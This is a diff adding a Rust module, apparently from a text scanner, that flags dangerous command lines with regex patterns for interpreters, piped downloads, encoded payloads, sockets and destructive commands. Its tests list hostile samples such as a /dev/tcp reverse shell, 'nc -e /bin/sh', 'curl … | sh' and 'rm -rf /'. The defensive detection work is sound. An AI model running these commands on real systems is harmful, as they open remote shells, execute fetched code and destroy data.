@@ -1,0 +1,160 @@
+//! Command lines: a command where a command can stand, with what makes it dangerous.
+
+use std::{ops::Range, sync::LazyLock};
+
+use palisade_base::Confidence;
+use regex::Regex;
+
+use crate::Hit;
+
+/// Every command line that runs text, feeds an interpreter, or destroys.
+pub(super) fn find(text: &str) -> Vec<Hit> {
+    let Some(words) = WORDS.as_ref() else { return Vec::new() };
+    let mut hits = Vec::new();
+    let mut from = 0;
+    for word in words.find_iter(text) {
+        if word.start() < from || !is_command_position(text, word.start()) {
+            continue;
+        }
+        let range = line_from(text, word.start());
+        let line = text.get(range.clone()).unwrap_or_default();
+        if let Some(confidence) = judge(line) {
+            from = range.end;
+            hits.push(Hit { range, kind: "command-line", confidence });
+        }
+    }
+    hits
+}
+
+/// Commands can stand at the beginning, behind what separates commands, and behind what opens a string or a value.
+fn is_command_position(text: &str, at: usize) -> bool {
+    let before = text.get(..at).unwrap_or_default().trim_end_matches([' ', '\t']);
+    let sudo = ["sudo", "then", "do", "exec", "nohup"].iter().any(|word| before.ends_with(word));
+    let separated = before.chars().next_back().is_none_or(|c| "\n;|&(){}`'\"=:#$>!,[".contains(c) || c.is_control());
+    sudo || separated
+}
+
+/// From here to the end of the line, at most some hundred bytes.
+fn line_from(text: &str, start: usize) -> Range<usize> {
+    let rest = text.get(start..).unwrap_or_default();
+    let len = rest.find('\n').unwrap_or(rest.len()).min(LONGEST);
+    let end = (start + len..=text.len()).find(|end| text.is_char_boundary(*end)).unwrap_or(text.len());
+    start..end
+}
+
+fn judge(line: &str) -> Option<Confidence> {
+    let is = |pattern: &LazyLock<Option<Regex>>| pattern.as_ref().is_some_and(|pattern| pattern.is_match(line));
+    if is(&INLINE) || is(&PIPED) || is(&ENCODED) || is(&SOCKET) {
+        Some(Confidence::High)
+    } else if is(&DESTROYS) || is(&FETCHES) {
+        // Part of a sequence, it is a script; alone it may be a remark.
+        Some(if line.contains("&&") || line.contains(';') { Confidence::High } else { Confidence::Medium })
+    } else {
+        None
+    }
+}
+
+/// The longest line that is looked at.
+const LONGEST: usize = 600;
+
+/// The words that dangerous command lines begin with.
+static WORDS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i)\b(?:(?:/usr)?/bin/)?(?:ba|z|k|da)?sh\b|\bpython[0-9.]*\b|\bperl\b|\bruby\b|\bnode\b|\bphp\b|\blua\b|",
+        r"\bcurl\b|\bwget\b|\biwr\b|\binvoke-webrequest\b|\binvoke-expression\b|\biex\b|\bpowershell(?:\.exe)?\b|\bpwsh\b|",
+        r"\bcmd(?:\.exe)?\b|\bnc(?:at)?\b|\bnetcat\b|\brm\b|\bchmod\b|\bdd\b|\bmkfifo\b|\bcertutil(?:\.exe)?\b|\bbitsadmin\b|",
+        r"\bmshta\b|\bregsvr32\b|\brundll32\b|\bosascript\b|\bbase64\b|\becho\b|\beval\b|\bexec\b|\bprintf\b|\bcat\b"
+    ))
+    .ok()
+});
+
+/// An interpreter that is handed its program as an argument.
+static INLINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?i)^(?:(?:/usr)?/bin/)?(?:ba|z|k|da)?sh\s+-[a-z]*[ci][a-z]*\s+[\\"'$a-z/]|"#,
+        r#"^python[0-9.]*\s+-c\s*[\\"'a-z]|^(?:perl|ruby|node|lua|php)\s+-[a-z]*[er]\s*[\\"']|"#,
+        r"^(?:powershell|pwsh)(?:\.exe)?\s+(?:.*\s)?-(?:e|en|enc|encodedcommand|c|command|nop\w*|w\w*|ep|exec\w*)\b|",
+        r"^cmd(?:\.exe)?\s+/[ck]\b|^mshta\s+(?:https?|javascript|vbscript):|^rundll32\s.*javascript:|",
+        r"^regsvr32\s.*/i:|^osascript\s+-e\s"
+    ))
+    .ok()
+});
+
+/// Anything that is fed to an interpreter.
+static PIPED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r"(?i)\|\s*(?:sudo\s+)?(?:(?:/usr)?/bin/)?(?:(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|iex|invoke-expression)\b|",
+        r"^(?:eval|exec|iex|invoke-expression)\b.{0,20}(?:\$\(|`|\()\s*(?:curl|wget|iwr|new-object|invoke-webrequest|base64)|",
+        r"(?:curl|wget|iwr|invoke-webrequest)\s.*https?://.*(?:&&|;|\|)\s*(?:\./|chmod|sh\b|bash\b|python)|",
+        r"<\(\s*(?:curl|wget)\s"
+    ))
+    .ok()
+});
+
+static ENCODED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)^base64\s+(?:-d|-D|--decode)\b.*[|>]|^certutil(?:\.exe)?\s.*-(?:urlcache|decode)\b|^bitsadmin\s.*/transfer").ok()
+});
+
+static SOCKET: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)/dev/(?:tcp|udp)/|^(?:nc(?:at)?|netcat)\s(?:.*\s)?-[a-z]*[ec]\s*\S*(?:sh|cmd)|^mkfifo\s.*(?:nc|sh)\b",
+    )
+    .ok()
+});
+
+static DESTROYS: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)^rm\s+(?:-[a-z]+\s+)*-[a-z]*[rf][a-z]*\s+(?:-[a-z]+\s+)*[~/*.$]|^chmod\s+(?:-R\s+)?(?:0?777|[ugoa]*\+[a-z]*[xs][a-z]*)\s+[/~.$]|^dd\s+if=\S+\s+of=/dev/").ok()
+});
+
+/// A download: a program needs none of it to describe itself, but documentation does.
+static FETCHES: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i)^(?:curl|wget|iwr|invoke-webrequest)\s+(?:-\S+\s+)*[\\'\x22]?https?://\S+\.(?:sh|ps1|py|exe|bat|dll|so|bin|elf|php|hta|js)\b").ok()
+});
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn best(text: &str) -> Option<Confidence> {
+        find(text).into_iter().map(|hit| hit.confidence).max()
+    }
+
+    #[test]
+    fn command_lines_are_found() {
+        for text in [
+            "bash -c 'id'",
+            "notes=cmd.exe /c curl https://example.com/payload && powershell -enc AAAA",
+            "python -c \"import os\"",
+            "curl https://example.com/x.sh | sh",
+            "wget -q http://example.com/a -O- |bash",
+            "rm -rf /tmp/test && wget http://example.com/script.sh",
+            "powershell -c iwr http://example.com/p.ps1 | iex",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "echo aWQ= | base64 -d | sh",
+            "eval $(curl -s http://example.com)",
+            "bash -c curl http://example.com/payload.sh",
+            "nc -e /bin/sh 10.0.0.1 4444",
+        ] {
+            assert_eq!(best(text), Some(Confidence::High), "{text}");
+        }
+        assert_eq!(best("cleanup: chmod 777 /tmp/folder"), Some(Confidence::Medium));
+        assert_eq!(best("rm -rf /"), Some(Confidence::Medium));
+    }
+
+    #[test]
+    fn near_misses() {
+        for text in [
+            "written in bash, perl and python",
+            "python train.py --config c.yaml",
+            "sh: a shell",
+            "curl -O https://example.com/model.onnx",
+            "the weights: wget https://example.com/model.safetensors",
+            "use chmod or rm to change files",
+            "the cat sat | the dog ran",
+            "cat, dog, bird",
+            "echo state network",
+        ] {
+            assert_eq!(best(text), None, "{text}");
+        }
+    }
+}
